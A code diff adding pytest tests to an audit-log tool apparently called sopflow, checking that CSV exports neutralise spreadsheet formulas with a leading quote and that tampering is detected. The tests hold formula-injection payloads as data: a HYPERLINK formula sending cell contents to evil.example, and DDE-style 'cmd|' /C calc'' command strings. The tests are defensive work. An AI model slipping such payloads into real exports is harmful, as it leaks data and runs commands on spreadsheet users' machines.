@@ -3,7 +3,9 @@ that catches hand edits of the database, and exports that can be checked on thei
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -652,3 +654,116 @@ def test_a_csv_export_carries_a_manifest_and_an_edit_is_detected(log: Log, tmp_p
 def test_an_export_format_other_than_csv_or_jsonl_is_refused(log: Log, tmp_path: Path) -> None:
     with pytest.raises(InvalidData):
         log.services.audit.export(tmp_path / "events.xml", "xml")
+
+
+# -- spreadsheet formulas in a CSV export ------------------------------------------------
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _rewrite_last_event(services: Services, **changes: Any) -> None:
+    """Change the newest event of the whole log and rehash it (and its global link), as if
+    sopflow had written it so: the values the SOP refuses (a reason code it does not know)
+    still have to survive an export that is checked offline."""
+    with services.ctx.store.read() as r:
+        head = r.chain_head()
+        row = r.one("SELECT * FROM events WHERE chain_seq = :s", {"s": head["chain_seq"]})
+        assert row is not None
+        reference = next(h["reference"] for h in r.request_heads() if h["id"] == row["request_id"])
+    fields = {**row, **changes, "reference": reference}
+    fields["payload"] = row["payload"]
+    own = event_hash(fields)
+    chained = link(row["chain_prev"], own)
+    sql(services, "UPDATE events SET " + ", ".join(f"{c} = :{c}" for c in changes)
+        + ", hash = :h, chain_hash = :ch WHERE id = :id", **changes, h=own, ch=chained,
+        id=row["id"])  # fmt: skip
+    sql(services, "UPDATE chain_head SET chain_hash = :ch", ch=chained)
+    sql(services, "UPDATE requests SET last_hash = :h WHERE id = :id", h=own,
+        id=row["request_id"])  # fmt: skip
+
+
+def test_a_csv_export_neutralises_formulas_and_still_checks_intact(
+    seeded: Services, tmp_path: Path
+) -> None:
+    """An employer's comment or data, or a reason, typed as a formula is text in the
+    auditor's spreadsheet (a quote in front), and ``check-export`` reads the very value
+    back: the events' hashes still match."""
+    svc = seeded
+    ref = w.submit_eg(svc, employer_name="+cmd|' /C calc'!A0").reference
+    svc.commands.act(ref, "withdraw", email("agent"), Command(comment=HOSTILE))
+    _rewrite_last_event(svc, reason="@SUM(1+1)*cmd|' /C calc'!A0", acting_for="'quoted")
+    target = tmp_path / "events.csv"
+
+    manifest = svc.audit.export(target, "csv")
+
+    assert manifest["csv_cells"] == "quote-prefixed"
+    report = check_export(target)
+    assert report.intact, report.breaks
+    rows = list(csv.reader(io.StringIO(target.read_text("utf-8"), newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+    last = dict(zip(rows[0], rows[-1], strict=True))
+    assert last["comment"] == "'" + HOSTILE
+    assert last["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert last["acting_for"] == "''quoted"  # a quote of its own is doubled, so it is undone
+    payloads = [json.loads(row[rows[0].index("payload")]) for row in rows[1:]]
+    # inside the JSON of the payload: its cell starts with '{', no formula
+    assert "+cmd|' /C calc'!A0" in [p.get("data", {}).get("employer_name") for p in payloads]
+    # the JSONL export keeps every value as it is
+    jsonl = tmp_path / "events.jsonl"
+    svc.audit.export(jsonl, "jsonl")
+    newest = json.loads(jsonl.read_text("utf-8").splitlines()[-1])
+    assert (newest["comment"], newest["reason"]) == (HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0")
+    assert check_export(jsonl).intact
+
+
+def test_a_neutralised_cell_edited_in_a_csv_export_is_detected(
+    seeded: Services, tmp_path: Path
+) -> None:
+    ref = w.submit_eg(seeded).reference
+    seeded.commands.act(ref, "withdraw", email("agent"), Command(comment=HOSTILE))
+    target = tmp_path / "events.csv"
+    seeded.audit.export(target, "csv")
+    # the quote taken away (the cell runs again as a formula): the content is not the event's
+    target.write_text(target.read_text("utf-8").replace("'=HYPERLINK", "=HYPERLINK"), "utf-8")
+    _rewrite_manifest(target, file_sha256=_sha256(target))
+
+    report = check_export(target)
+    assert (report.breaks[0].code, report.breaks[0].message) == (
+        "export-malformed", "events.csv line 4 is not an exported event (a cell starts with "
+        "'=' without the quote an export puts before it, so a spreadsheet would run it as a "
+        "formula)")  # fmt: skip
+    # nor does it put a quote before a value that needs none: each cell is read one way
+    seeded.audit.export(target, "csv")
+    target.write_text(target.read_text("utf-8").replace(email("agent"), "'" + email("agent")),
+                      "utf-8")  # fmt: skip
+    _rewrite_manifest(target, file_sha256=_sha256(target))
+    report = check_export(target)
+    assert (report.breaks[0].code, report.breaks[0].message) == (
+        "export-malformed", "events.csv line 2 is not an exported event (a cell starts with "
+        "a quote that an export does not write (only before = + - @, a tab, a carriage "
+        "return or a quote))")  # fmt: skip
+
+
+def test_a_csv_export_written_before_cells_were_neutralised_still_checks(
+    seeded: Services, tmp_path: Path
+) -> None:
+    """An older export (its manifest names no ``csv_cells``) is read as it was written: a
+    comment that starts with a quote is not taken for a neutralised cell."""
+    ref = w.submit_eg(seeded).reference
+    seeded.commands.act(ref, "withdraw", email("agent"), Command(comment="'tis withdrawn"))
+    target = tmp_path / "events.csv"
+    seeded.audit.export(target, "csv")
+    old = target.read_text("utf-8").replace("''tis withdrawn", "'tis withdrawn")
+    target.write_text(old, "utf-8")
+    manifest = _manifest(target)
+    del manifest["csv_cells"]
+    target.with_name(target.name + ".manifest.json").write_text(
+        json.dumps({**manifest, "file_sha256": _sha256(target)}), "utf-8"
+    )
+
+    assert check_export(target).intact
+    _rewrite_manifest(target, csv_cells="base64")
+    with pytest.raises(InvalidData) as unknown:
+        check_export(target)
+    assert unknown.value.errors[0].code == "not-in-enum"
